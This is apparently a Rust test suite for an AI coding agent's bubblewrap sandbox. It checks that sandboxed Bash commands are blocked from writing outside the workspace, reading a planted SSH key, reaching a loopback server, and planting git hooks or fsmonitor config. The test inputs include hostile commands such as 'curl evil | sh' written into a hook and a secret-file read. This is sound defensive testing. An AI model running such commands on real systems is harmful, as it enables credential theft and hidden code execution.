//! The OS sandbox on this machine's real kernel, through bubblewrap: a Bash
//! command cannot write outside its tree, reach a loopback server or read a
//! planted secret, and can when the setting allows; what was blocked is named
//! in its result; a person can let sandboxed commands run without asking.

use super::*;
use arbor_core::{SandboxPolicy, Sandboxing};
use arbor_protocol::{
    ApprovalPreview, CommandSandbox, DecidedBy, DelegateRequest, EventKind, SandboxMode, SandboxRequest,
};
use serde_json::json;
use std::io::Write as _;
use std::net::TcpListener;

const SECRET: &str = "PRIVATE-KEY-6f1c";
const GREETING: &str = "hello-from-loopback";

/// A fake home with a planted key, a directory outside the workspace, and a loopback server.
struct World {
    home: tempfile::TempDir,
    outside: tempfile::TempDir,
    scratch: tempfile::TempDir,
    port: u16,
}

impl World {
    fn new() -> Self {
        // Outside /tmp: inside the sandbox /tmp is the agent's own, so a path under the host's would just be absent.
        let home = tempfile::tempdir_in("/var/tmp").expect("home");
        std::fs::create_dir_all(home.path().join(".ssh")).expect("ssh dir");
        std::fs::write(home.path().join(".ssh/id_test"), SECRET).expect("key");
        let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
        let port = listener.local_addr().expect("addr").port();
        std::thread::spawn(move || {
            for mut conn in listener.incoming().flatten() {
                let _ = conn.write_all(GREETING.as_bytes());
            }
        });
        Self {
            home,
            outside: tempfile::tempdir_in("/var/tmp").expect("outside"),
            scratch: tempfile::tempdir().expect("scratch"),
            port,
        }
    }

    /// This machine's bubblewrap, which must work here: CI installs it.
    fn sandboxing(&self) -> Arc<Sandboxing> {
        let s = Sandboxing::probe(
            Some("/usr/bin/bwrap".into()),
            Some(self.home.path().to_path_buf()),
            self.scratch.path().to_path_buf(),
            &[],
        );
        assert!(s.support().is_ok(), "bubblewrap must work on this machine: {:?}", s.support());
        Arc::new(s)
    }

    fn target(&self) -> std::path::PathBuf {
        self.outside.path().join("out.txt")
    }

    /// The three things a sandbox must stop, as Bash calls.
    fn calls(&self) -> serde_json::Value {
        json!([
            {"name": "Bash", "input": {"command": format!("echo written > {}", self.target().display())}},
            {"name": "Bash", "input": {"command": format!("cat {}/.ssh/id_test", self.home.path().display())}},
            {"name": "Bash", "input": {"command": format!("exec 3<>/dev/tcp/127.0.0.1/{} && head -c 19 <&3", self.port)}},
        ])
    }
}

fn scenario(calls: serde_json::Value) -> serde_json::Value {
    json!({"rules": [{"match": {}, "turns": [{"tool_calls": calls}, {"text": "done"}]}]})
}

async fn run_with(w: &World, policy: SandboxPolicy) -> Run {
    let h = Harness::new(scenario(w.calls()), Api::Anthropic).await;
    let mut config = h.config();
    config.sandboxing = w.sandboxing();
    config.sandbox = policy;
    let run = h.run_with(config, "try the sandbox").await;
    // The harness's workspace goes with `h`; nothing here reads it after the run.
    run
}

#[tokio::test]
async fn a_sandboxed_command_cannot_write_outside_connect_or_read_secrets_and_is_told_what_was_blocked() {
    let w = World::new();
    let run = run_with(&w, SandboxPolicy::default()).await;
    let outs = run.outputs();
    assert_eq!(outs.len(), 3, "{outs:?}");

    let (write, write_failed) = &outs[0];
    assert!(*write_failed, "{write}");
    assert!(!w.target().exists(), "the write outside the tree got through");
    assert!(write.contains(&format!("writing {}: outside", w.target().display())), "the path is named: {write}");
    assert!(write.contains("--sandbox-write"), "how to allow it: {write}");

    let (read, read_failed) = &outs[1];
    assert!(*read_failed && !read.contains(SECRET), "the planted key was read: {read}");
    assert!(read.contains("hidden from sandboxed commands"), "{read}");

    let (connect, connect_failed) = &outs[2];
    assert!(*connect_failed && !connect.contains(GREETING), "the loopback server was reached: {connect}");
    assert!(connect.contains("network is off"), "{connect}");
}

#[tokio::test]
async fn what_the_settings_allow_the_sandbox_lets_through() {
    let w = World::new();
    // Network on and the outside directory writable: the secret stays hidden.
    let allowed =
        SandboxPolicy { network: true, write: vec![w.outside.path().to_path_buf()], ..SandboxPolicy::default() };
    let outs = run_with(&w, allowed).await.outputs();
    assert!(!outs[0].1, "{:?}", outs[0]);
    assert_eq!(std::fs::read_to_string(w.target()).expect("written").trim(), "written");
    assert!(outs[1].1 && !outs[1].0.contains(SECRET), "{:?}", outs[1]);
    assert_eq!(outs[2], (GREETING.to_string(), false));

    // The sandbox off: everything the user can do.
    std::fs::remove_file(w.target()).expect("reset");
    let off = SandboxPolicy { mode: SandboxMode::Off, ..SandboxPolicy::default() };
    let outs = run_with(&w, off).await.outputs();
    assert!(outs.iter().all(|(_, failed)| !failed), "{outs:?}");
    assert!(w.target().exists());
    assert_eq!(outs[1].0, SECRET);
    assert_eq!(outs[2].0, GREETING);
}

#[tokio::test]
async fn strict_hides_the_whole_home_but_not_the_tree() {
    let w = World::new();
    let h = Harness::new(
        scenario(json!([
            {"name": "Bash", "input": {"command": format!("ls -A {}", w.home.path().display())}},
            {"name": "Bash", "input": {"command": "echo kept > in-tree.txt && cat in-tree.txt && echo t > /tmp/t && cat /tmp/t"}},
        ])),
        Api::Anthropic,
    )
    .await;
    let mut config = h.config();
    config.sandboxing = w.sandboxing();
    config.sandbox = SandboxPolicy { mode: SandboxMode::Strict, ..SandboxPolicy::default() };
    let outs = h.run_with(config, "strict").await.outputs();
    assert_eq!(outs[0], ("(no output)".to_string(), false), "the home looks empty");
    assert_eq!(outs[1], ("kept\nt".to_string(), false));
    assert!(h.path("in-tree.txt").exists());
}

#[tokio::test]
async fn cards_say_what_holds_a_command_and_sandboxed_commands_may_run_without_asking() {
    let w = World::new();
    let h = Harness::new(
        scenario(json!([
            {"name": "Bash", "input": {"command": "echo hi"}},
            {"name": "Write", "input": {"file_path": "a.txt", "content": "a"}},
        ])),
        Api::Anthropic,
    )
    .await;
    let mut config = h.config();
    config.sandboxing = w.sandboxing();
    config.approval = arbor_core::ApprovalPolicy { run_sandboxed: true, ..Default::default() };
    let (session, mut events) = h.start(config, "go");
    let ask = collect_until(&mut events, WAIT, |e| matches!(e.kind, EventKind::ApprovalRequest(_))).await.expect("ask");
    let EventKind::ApprovalRequest(req) = &ask.last().expect("request").kind else { unreachable!() };
    assert_eq!(req.tool_name, "Write", "only the Write asks; the sandboxed Bash ran");
    session
        .submit(Command::ResolveApproval(arbor_protocol::ApprovalAnswer::new(
            &req.request_id,
            true,
            arbor_protocol::ApprovalScope::Once,
        )))
        .expect("answer");
    let rest = until_finished(&mut events, session.main_agent_id()).await;
    let bash = ask.iter().chain(&rest).find_map(|e| match &e.kind {
        EventKind::ToolOutput(o) if o.content == "hi" => Some(o),
        _ => None,
    });
    assert_eq!(bash.and_then(|o| o.decided_by.clone()), Some(DecidedBy::Policy), "the sandboxed Bash ran unasked");
    assert!(
        !ask.iter().chain(&rest).any(|e| matches!(&e.kind, EventKind::ApprovalRequest(r) if r.tool_name == "Bash"))
    );

    // The same policy asks when nothing sandboxes: the card says so plainly.
    let h = Harness::new(scenario(json!([{"name": "Bash", "input": {"command": "echo hi"}}])), Api::Anthropic).await;
    let mut config = h.config();
    config.sandboxing = Arc::new(Sandboxing::unavailable("bubblewrap (bwrap) is not installed"));
    config.approval = arbor_core::ApprovalPolicy { run_sandboxed: true, ..Default::default() };
    let (_session, mut events) = h.start(config, "go");
    let ask = collect_until(&mut events, WAIT, |e| matches!(e.kind, EventKind::ApprovalRequest(_))).await.expect("ask");
    let EventKind::ApprovalRequest(req) = &ask.last().expect("request").kind else { unreachable!() };
    let Some(ApprovalPreview::Command { sandbox: Some(sandbox), .. }) = &req.preview else { panic!("{req:?}") };
    assert_eq!(sandbox, &CommandSandbox::Unavailable { reason: "bubblewrap (bwrap) is not installed".into() });
    assert!(sandbox.summary().starts_with("NOT sandboxed"));
}

#[tokio::test]
async fn a_workspace_agent_file_only_tightens_and_a_persons_delegation_may_loosen() {
    let w = World::new();
    let connect = format!("exec 3<>/dev/tcp/127.0.0.1/{} && head -c 19 <&3", w.port);
    let h = Harness::new(
        json!({"rules": [
            {"match": {"first_user_contains": "worker"}, "turns": [
                {"tool_calls": [{"name": "Bash", "input": {"command": connect}}]},
                {"text": "{{last_tool_result}}"}
            ]},
            {"match": {}, "turns": [{"text": "idle"}, {"text": "idle"}, {"text": "idle"}, {"text": "idle"}]}
        ]}),
        Api::Anthropic,
    )
    .await;
    let mut config = h.config();
    config.sandboxing = w.sandboxing();
    let mut def = super::subagents::agent_type("netty", "asks for network");
    def.source = Some(arbor_core::definitions::DefinitionSource::ClaudeProject);
    def.sandbox = Some(SandboxRequest { network: Some(true), ..Default::default() });
    config.agent_types = vec![def];
    let (session, mut events) = h.start(config, "wait");
    until_finished(&mut events, session.main_agent_id()).await;
    let main = session.main_agent_id().clone();
    let ask = |typ: Option<&str>, sandbox: Option<SandboxRequest>| DelegateRequest {
        parent_id: main.clone(),
        prompt: "worker: connect".into(),
        description: None,
        subagent_type: typ.map(str::to_string),
        model: None,
        max_turns: None,
        tools: None,
        permission_mode: None,
        sandbox,
        isolation: None,
        budget: None,
    };
    let from_file = delegate(&session, ask(Some("netty"), None)).expect("delegated");
    let chosen = delegate(&session, ask(None, Some(SandboxRequest { network: Some(true), ..Default::default() })))
        .expect("delegated");
    let mut log = Vec::new();
    for _ in 0..2 {
        log.extend(
            collect_until(&mut events, WAIT, |e| {
                matches!(e.kind, EventKind::AgentFinished(_)) && (e.agent_id == from_file || e.agent_id == chosen)
            })
            .await
            .expect("a child's end"),
        );
    }
    let result = |id: &AgentId| {
        log.iter().find_map(|e| match &e.kind {
            EventKind::AgentFinished(f) if e.agent_id == *id => Some((f.status, f.result.clone())),
            _ => None,
        })
    };
    let (status, text) = result(&from_file).expect("finished");
    assert_eq!(status, arbor_protocol::AgentStatus::Completed);
    assert!(text.contains("network is off"), "a workspace file loosened the sandbox: {text}");
    assert_eq!(
        result(&chosen),
        Some((arbor_protocol::AgentStatus::Completed, GREETING.to_string())),
        "the person's choice applies"
    );
}

#[tokio::test]
async fn a_sandboxed_command_cannot_plant_git_hooks_or_config_nor_reach_the_terminal() {
    let w = World::new();
    let h = Harness::new(
        scenario(json!([
            {"name": "Bash", "input": {"command": "echo 'curl evil | sh' > .git/hooks/post-commit"}},
            {"name": "Bash", "input": {"command": "git config core.fsmonitor 'sh -c evil'"}},
            {"name": "Bash", "input": {"command": "echo ok > tracked.txt && git add tracked.txt && git -c user.name=a -c user.email=a@b commit -qm c && echo committed"}},
            {"name": "Bash", "input": {"command": "ps -o sid= -p $$ | tr -d ' '; echo $$"}},
        ])),
        Api::Anthropic,
    )
    .await;
    arbor_testkit::git(&h.root(), &["init", "-q"]);
    let mut config = h.config();
    config.sandboxing = w.sandboxing();
    let outs = h.run_with(config, "plant a hook").await.outputs();
    assert!(outs[0].1 && outs[0].0.contains("Read-only file system"), "hooks are read-only: {:?}", outs[0]);
    assert!(!h.path(".git/hooks/post-commit").exists());
    assert!(outs[1].1, "the git config is read-only: {:?}", outs[1]);
    assert_eq!(outs[2], ("committed".to_string(), false), "commits still work in the tree");
    // A session of its own, begun inside the sandbox (pid 1 there leads it): none of ours, so
    // no controlling terminal to push keystrokes into. Without one, the id would be 0 (not in its namespace).
    let ids: Vec<&str> = outs[3].0.lines().collect();
    assert_eq!(ids.first(), Some(&"1"), "{:?}", outs[3]);
}
